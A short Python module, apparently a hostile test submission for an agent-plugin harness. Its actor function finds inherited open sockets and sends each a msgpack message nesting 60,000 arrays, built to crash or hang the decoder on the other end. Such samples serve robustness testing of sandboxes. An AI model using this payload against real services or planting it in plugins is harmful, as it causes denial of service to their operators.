"""Sends a message of 60,000 nested lists to every open socket."""

import os
import socket
import stat
import struct

BOMB = b"\x82\xa4type\xa6failed\xa4text" + b"\x91" * 60_000


def get_actor(module_dir, observation_space, action_space):
    def actor(state, observation):
        for number in range(3, 64):
            try:
                is_socket = stat.S_ISSOCK(os.fstat(number).st_mode)
            except OSError:
                continue
            if is_socket:
                with socket.socket(fileno=os.dup(number)) as connection:
                    connection.sendall(struct.pack("!I", len(BOMB)) + BOMB)

    return actor
